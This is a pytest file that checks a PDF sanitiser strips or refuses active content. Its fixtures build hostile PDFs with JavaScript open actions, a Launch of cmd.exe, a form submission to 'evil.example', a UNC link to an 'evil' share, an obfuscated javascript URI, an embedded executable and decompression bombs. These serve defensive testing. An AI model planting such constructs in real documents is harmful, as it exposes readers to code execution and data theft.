import io
import zlib
from dataclasses import replace

import pikepdf
import pytest
from pikepdf import Dictionary, Name, String

from fawang.base.documents.tests.factories import PDF, pdf
from fawang.base.documents.workshop import cleaning
from fawang.base.documents.workshop.refusals import Refused
from fawang.base.documents.workshop.values import Limits

LIMITS = Limits()


def clean(data, **limits):
    return cleaning.clean(data, replace(LIMITS, **limits))


def refused(data, **limits):
    with pytest.raises(Refused) as caught:
        clean(data, **limits)
    return caught.value.code


def opened(done):
    return pikepdf.open(io.BytesIO(done.data))


def script(code="app.alert(1)"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def with_open_action(document):
    document.Root.OpenAction = script()


def with_trigger(document):
    document.pages[0].AA = Dictionary(O=script())


def with_named_script(document):
    tree = Dictionary(Names=[String("start"), document.make_indirect(script())])
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))


def with_stream_of_script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))


def with_script_in_a_chain(document):
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=[0, Name.Fit], Next=[script()])


def with_button(document, action):
    button = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = [document.make_indirect(button)]


def with_field_of_script(document):
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("sum"),
        Rect=[0, 0, 90, 20],
        AA=Dictionary(C=script()),
    )
    field = document.make_indirect(field)
    document.pages[0].Annots = [field]
    document.Root.AcroForm = Dictionary(Fields=[field])


ACTIVE = {
    "SCRIPT": [with_open_action, with_trigger, with_named_script, with_stream_of_script, with_script_in_a_chain,
               with_field_of_script],
    "LAUNCH": [lambda d: with_button(d, Dictionary(S=Name.Launch, F=String("cmd.exe")))],
    "SEND": [lambda d: with_button(d, Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))),
             lambda d: with_button(d, Dictionary(S=Name.ImportData, F=String("x.fdf")))],
    "OTHER_FILE": [lambda d: with_button(d, Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=[0]))],
    "LINK": [lambda d: with_button(d, Dictionary(S=Name.URI, URI=String("java\tscript:alert(1)"))),
             lambda d: with_button(d, Dictionary(S=Name.URI, URI=String("file:///c:/x")))],
}  # fmt: skip
CASES = [(word, change) for word, changes in ACTIVE.items() for change in changes]


@pytest.mark.parametrize(("word", "change"), CASES)
@pytest.mark.parametrize(
    "hidden", [{}, {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}]
)
def test_what_runs_is_taken_out_openly_and_inside_compressed_objects(word, change, hidden):
    done = clean(pdf(2, change, **hidden))
    assert done.removed == (word,)
    assert done.pages == 2
    with opened(done) as document:
        written = b"".join(thing.unparse() for thing in document.objects)
    for name in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/GoToR", b"evil", b"alert", b"/AA"):
        assert name not in written
    again = clean(done.data)
    assert again.removed == ()
    assert again.data == done.data


def test_a_name_written_in_another_way_is_the_same_name():
    data = pdf(change=with_open_action).replace(b"/JavaScript", b"/J#61vaScr#69pt")
    assert clean(data).removed == ("SCRIPT",)


def test_a_clean_file_is_kept_byte_for_byte_with_links_forms_and_outlines():
    def change(document):
        with_button(document, Dictionary(S=Name.URI, URI=String("https://www.example.com/")))
        field = document.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=[0, 0, 9, 9])
        )
        document.Root.AcroForm = Dictionary(Fields=[field])
        document.Root.OpenAction = [document.pages[0].obj, Name.Fit]

    data = pdf(3, change)
    done = clean(data)
    assert (done.data, done.pages, done.removed) == (data, 3, ())


def signed(change=None):
    def sign(document):
        value = document.make_indirect(
            Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 1, 2, 3], Contents=String("x"))
        )
        field = document.make_indirect(Dictionary(FT=Name.Sig, T=String("seal"), V=value))
        document.Root.AcroForm = Dictionary(Fields=[field], SigFlags=3)
        if change:
            change(document)

    return pdf(1, sign)


def test_a_signed_file_is_kept_as_it_is_and_refused_when_something_would_have_to_go():
    data = signed()
    assert clean(data).data == data
    assert refused(signed(with_open_action)) == "signed_active"


def attachment(document):
    document.attachments["secret.exe"] = b"MZ"


def note(document):
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=Dictionary(F=String("x")))
    document.pages[0].Annots = [document.make_indirect(pin)]


def film(document):
    clip = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    document.pages[0].Annots = [document.make_indirect(clip)]


def xfa(document):
    document.Root.AcroForm = Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def outside(document):
    content = document.make_stream(b"q Q")
    content.F = String("http://evil.example/page")
    document.pages[0].Contents = content


@pytest.mark.parametrize(
    ("change", "code"),
    [(attachment, "attachments"), (note, "attachments"), (film, "media"), (xfa, "xfa"), (outside, "dangerous")],
)
def test_what_would_be_lost_or_changes_the_page_is_refused(change, code):
    assert refused(pdf(1, change)) == code


def test_a_password_to_open_is_refused_and_one_against_printing_is_not():
    locked = pdf(encryption=pikepdf.Encryption(user="open sesame", owner="x", R=6))
    assert refused(locked) == "encrypted"
    restricted = pdf(encryption=pikepdf.Encryption(user="", owner="secret", R=4))
    assert clean(restricted).data == restricted
    active = pdf(1, with_open_action, encryption=pikepdf.Encryption(user="", owner="secret", R=6))
    assert clean(active).removed == ("SCRIPT",)


def test_more_pages_than_may_be_are_refused():
    assert refused(pdf(4), pdf_pages=3) == "too_many_pages"
    assert clean(pdf(3), pdf_pages=3).pages == 3


def test_what_unpacks_to_too_much_is_refused_also_when_packed_twice():
    def big(document):
        document.pages[0].Contents = document.make_stream(b" " * 3_000_000)

    def nested(document):
        stream = document.make_stream(b"")
        stream.write(zlib.compress(zlib.compress(b" " * 3_000_000)), filter=[Name.FlateDecode, Name.FlateDecode])
        document.pages[0].Contents = stream

    def picture(document):
        image = document.make_stream(zlib.compress(b"\0" * 1000))
        image.Subtype, image.Width, image.Height, image.Filter = Name.Image, 90_000, 90_000, Name.FlateDecode
        document.pages[0].Resources = Dictionary(XObject=Dictionary(P=image))

    assert refused(pdf(1, big), unpacked_bytes=1_000_000) == "bomb"
    assert clean(pdf(1, big), unpacked_bytes=4_000_000).pages == 1
    assert refused(pdf(1, nested), unpacked_bytes=1_000_000) == "bomb"
    assert refused(pdf(1, picture)) == "bomb"


def test_what_broke_off_or_is_no_pdf_inside_is_refused():
    whole = pdf(5)
    assert refused(whole[: len(whole) * 2 // 3]) == "damaged"
    assert refused(b"%PDF-1.7\nhello\n%%EOF\n") == "damaged"
    assert refused(b"%PDF-1.7\n") == "damaged"


@pytest.mark.parametrize("behind", [b"<html>" + b"x" * 4000, b"PK\x05\x06" + b"\0" * 18])
def test_a_second_file_behind_it_is_refused(behind):
    assert refused(PDF + behind) == "two_kinds"


def test_a_pdf_behind_something_else_is_refused():
    assert refused(b"GIF-like words\n" + PDF) == "two_kinds"


def test_an_older_part_that_nobody_refers_to_any_more_does_not_stay():
    data = PDF.replace(b"%%EOF", b"% 9 0 obj << /S /JavaScript /JS (x) >> endobj\n%%EOF", 1)
    done = clean(data)
    assert b"/JavaScript" not in done.data
    assert done.pages == 1
